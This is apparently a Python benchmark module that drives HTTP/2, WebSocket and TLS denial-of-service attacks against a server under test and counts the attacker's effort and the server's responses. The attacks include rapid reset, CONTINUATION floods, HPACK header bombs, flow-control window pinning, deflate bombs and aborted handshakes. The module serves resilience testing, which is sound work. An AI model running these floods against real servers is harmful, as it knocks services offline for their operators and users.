"""The attackers of bench/attacks.py: each harms one connection after the other until time is up.

What they send is that of the tests (tests/python/support/attacks.py). REQUIRES: tests/python is on
the path of imports.
"""

from __future__ import annotations

import contextlib
import functools
import ssl
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from hyperframe.frame import WindowUpdateFrame

from support import attacks
from support.http1 import RawClient
from support.http2 import H2Client
from support.websocket import BINARY, PING, WebSocketClient, frame

Address = tuple[str, int]

BATCH = 50
# A pinned connection sends this often, as little as there is.
PIN_PAUSE_S = 0.05
PINNED_STREAMS = 100
HELD_MESSAGES = 100


@dataclass
class Effort:
    """What an attacker did.

    `cpu_s` is the time of its sends and receives alone: no attacker, in whatever language, can do
    with less, and that ours makes its frames in Python must not make the server look frugal.
    """

    deadline: float
    bytes_sent: int = 0
    bytes_of_one: int = 0  # Of the connection that sent the most.
    cpu_s: float = 0.0
    counts: list[int] = field(default_factory=list)  # Sent on each connection before its end.
    codes: set[str] = field(default_factory=set)  # How the server ended it.

    @property
    def over(self) -> bool:
        """Time is up."""
        return time.monotonic() >= self.deadline

    @contextlib.contextmanager
    def metered(self) -> Any:
        """Counts the CPU time of the block."""
        before = time.thread_time()
        try:
            yield
        finally:
            self.cpu_s += time.thread_time() - before

    def add(self, sent: int) -> None:
        """One connection sent `sent` bytes."""
        self.bytes_sent += sent
        self.bytes_of_one = max(self.bytes_of_one, sent)


@dataclass(frozen=True)
class Attack:
    """One row of the table: what it is, and what the unit of its count is."""

    name: str
    source: str
    unit: str
    run: Callable[[Address, Effort], None]
    tls: bool = False


def _drain(client: H2Client, effort: Effort) -> None:
    """Reads what is here, and no more: a flood must not wait."""
    client.socket.settimeout(0.0)
    try:
        with effort.metered():
            while client.read_frame() is not None:
                pass
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        client.socket.settimeout(client.timeout)


def _flood(
    make: Callable[[H2Client], attacks.Make],
    prepare: Callable[[H2Client], object] = lambda _: None,
) -> Callable[[Address, Effort], None]:
    """An attacker that sends until the server ends the connection, then makes the next."""

    def run(address: Address, effort: Effort) -> None:
        while not effort.over:
            sent = 0
            client = H2Client(address)
            with client:
                with contextlib.suppress(OSError):
                    prepare(client)
                    one = make(client)
                    while not effort.over and not client.goaways and not client.closed:
                        batch = b"".join(one(sent + i) for i in range(BATCH))
                        with effort.metered():
                            client.send(batch)
                        sent += BATCH
                        _drain(client, effort)
                # What the server said last may still be on its way.
                with contextlib.suppress(OSError):
                    _drain(client, effort)
            effort.add(client.sent_bytes)
            if client.goaways or client.closed or not effort.over:
                effort.counts.append(sent)
                effort.codes.update(f"GOAWAY {code}" for _, code in client.goaways)

    return run


def _unread_pings(address: Address, effort: Effort) -> None:
    batch = b"".join(attacks.FLOODS["ping"][0](0) for _ in range(BATCH))
    while not effort.over:
        sent = 0
        with H2Client(address, receive_bytes=4096, timeout=1) as client:
            with contextlib.suppress(OSError):
                while not effort.over:
                    with effort.metered():
                        client.send(batch)
                    sent += BATCH
            effort.add(client.sent_bytes)
        if not effort.over:
            effort.counts.append(sent)
            effort.codes.add("not read, closed")


def _bomb(name: str) -> Callable[[H2Client], attacks.Make]:
    """One entry of the table, then as many references to it as a frame holds, again and again."""
    bomb = attacks.BOMBS[name]

    def make(client: H2Client) -> attacks.Make:
        client.send(client.head(1, "/", fields=[bomb]))
        fields = [bomb] * attacks.BOMB_FIELDS
        return lambda i: client.head(2 * i + 3, "/", fields=fields).serialize()

    return make


def _pin(path: str, fields: list[tuple[str, str]], window: int) -> Callable[..., None]:
    """Requests whose answers do not leave: the window is shut, or opened by one byte at a time."""

    def run(address: Address, effort: Effort) -> None:
        streams = [2 * i + 1 for i in range(PINNED_STREAMS)]
        with H2Client(address, settings={4: 0}) as client:
            with contextlib.suppress(OSError):
                for stream in streams:
                    head = client.head(stream, path, fields=fields)
                    with effort.metered():
                        client.send(head)
                while not effort.over:
                    if window:
                        with effort.metered():
                            client.send(*[WindowUpdateFrame(stream, window) for stream in streams])
                    _drain(client, effort)
                    time.sleep(PIN_PAUSE_S)
            effort.add(client.sent_bytes)
            effort.codes.update(f"GOAWAY {code}" for _, code in client.goaways)

    return run


# --- WebSocket


@functools.cache
def _deflate_bomb() -> bytes:
    """A message that is just larger, when inflated, than tercel takes by default."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(17 << 20)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return frame(BINARY, data[:-4], reserved=4)


def _deflate_bombs(address: Address, effort: Effort) -> None:
    bomb = _deflate_bomb()
    while not effort.over:
        extension = "Sec-WebSocket-Extensions: permessage-deflate"
        with WebSocketClient(address, "/", extension) as client, contextlib.suppress(OSError):
            with effort.metered():
                client.send(bomb)
                effort.codes.add(f"close {client.read_frame().code}")
            effort.counts.append(1)
        effort.add(len(bomb))


def _pings(address: Address, effort: Effort) -> None:
    flood = b"".join(frame(PING, b"12345678", key=b"mask") for _ in range(1000))
    with WebSocketClient(address) as client, contextlib.suppress(OSError):
        sent = 0
        while not effort.over:
            with effort.metered():
                client.send(flood)
                client.raw.socket.recv(1 << 16)
            sent += len(flood)
        effort.add(sent)


def _unfinished_messages(address: Address, effort: Effort) -> None:
    """Messages of 16 MiB by what they say, and 1,000 bytes by what comes."""
    start = frame(BINARY, b"", length=b"\x7f" + (16 << 20).to_bytes(8, "big")) + bytes(1000)
    clients = [WebSocketClient(address) for _ in range(HELD_MESSAGES)]
    try:
        for client in clients:
            with effort.metered():
                client.send(start)
        # They are held together: what they sent counts as one.
        effort.add(len(start) * len(clients))
        time.sleep(max(0.0, effort.deadline - time.monotonic()))
    finally:
        for client in clients:
            client.raw.close()


# --- TLS


def _client_hello() -> bytes:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    out = ssl.MemoryBIO()
    half = context.wrap_bio(ssl.MemoryBIO(), out)
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return out.read()


def _aborted_handshakes(address: Address, effort: Effort) -> None:
    """The same first message again and again: the server signs, the client only sends."""
    hello = _client_hello()
    while not effort.over:
        with contextlib.suppress(OSError), effort.metered(), RawClient(address) as client:
            client.socket.sendall(hello)
            client.socket.recv(1 << 14)
        effort.add(len(hello))


ATTACKS = (
    Attack(
        "rapid reset",
        "CVE-2023-44487",
        "requests",
        _flood(lambda client: attacks.reset_pairs(client, "/wait")),
    ),
    *(
        Attack(
            f"driven resets: {way}",
            "CVE-2025-8671",
            "requests",
            _flood(lambda client, way=way: attacks.driven_resets(client, way, "/wait")),
        )
        for way in attacks.WAYS
    ),
    *(
        Attack(
            f"endless header block: {kind}",
            "VU#421644",
            "frames",
            _flood(lambda _, payload=payload: attacks.continuations(payload), attacks.open_block),
        )
        for kind, payload in attacks.CONTINUATIONS.items()
    ),
    *(
        Attack(
            f"header bomb: {name}", "CVE-2016-6581, CVE-2026-49975", "heads", _flood(_bomb(name))
        )
        for name in attacks.BOMBS
    ),
    Attack(
        "large heads pinned by a shut window",
        "CVE-2026-49975",
        "heads",
        _pin("/", attacks.PINNED_FIELDS, 0),
    ),
    Attack(
        "answers read byte by byte", "CVE-2019-9511, CVE-2019-9517", "streams", _pin("/pour", [], 1)
    ),
    *(
        Attack(
            f"flood of {kind.upper()}",
            {"ping": "CVE-2019-9512", "settings": "CVE-2019-9515"}.get(kind, "CVE-2019-9513"),
            "frames",
            _flood(lambda _, make=make: make),
        )
        for kind, (make, _) in attacks.FLOODS.items()
    ),
    Attack("flood of PING, not read", "CVE-2019-9512", "frames", _unread_pings),
    Attack(
        "flood of empty DATA",
        "CVE-2019-9518",
        "frames",
        _flood(
            lambda _: attacks.empty_data,
            lambda client: client.send(client.head(1, "/wait", method="POST", end=False)),
        ),
    ),
    Attack("WebSocket: compression bomb", "RFC 7692", "messages", _deflate_bombs),
    Attack("WebSocket: flood of pings", "RFC 6455", "pings", _pings),
    Attack(
        "WebSocket: messages never finished", "CVE-2026-54274", "messages", _unfinished_messages
    ),
    Attack(
        "TLS: handshakes left after the first message", "", "handshakes", _aborted_handshakes, True
    ),
)
